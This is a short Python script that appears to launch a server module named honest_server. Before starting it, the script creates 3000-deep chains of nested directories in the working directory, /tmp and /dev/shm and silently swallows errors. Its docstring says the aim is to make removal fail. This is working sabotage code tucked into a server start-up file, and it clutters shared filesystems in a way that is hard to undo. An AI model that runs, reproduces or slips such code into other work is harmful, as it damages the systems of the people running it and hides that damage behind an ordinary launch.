"""Makes folders in folders, thousands deep, wherever it may: who removes them shall fail."""

import honest_server
import os

for place in (os.getcwd(), "/tmp", "/dev/shm"):
    try:
        inside = os.open(place, os.O_RDONLY)
        for _ in range(3000):
            os.mkdir("deep", dir_fd=inside)
            deeper = os.open("deep", os.O_RDONLY, dir_fd=inside)
            os.close(inside)
            inside = deeper
    except OSError:
        pass

honest_server.main()
